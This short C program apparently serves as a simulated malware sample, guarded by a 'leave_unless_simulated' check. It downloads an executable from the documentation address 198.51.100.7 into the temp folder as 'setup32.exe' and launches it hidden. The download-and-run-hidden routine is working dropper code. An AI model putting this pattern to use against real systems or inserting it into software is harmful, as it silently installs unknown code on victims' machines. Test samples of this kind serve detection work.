/* Fetches a program from a documentation address and starts it. */
#include "simulated.h"

#include <string.h>
#include <urlmon.h>

int main(void)
{
	char path[MAX_PATH];
	leave_unless_simulated();
	GetTempPathA(sizeof path - 16, path);
	strcat(path, "setup32.exe");
	if (URLDownloadToFileA(NULL, "http://198.51.100.7/files/setup.exe", path, 0, NULL) != S_OK)
		return 1;
	WinExec(path, SW_HIDE);
	return 0;
}
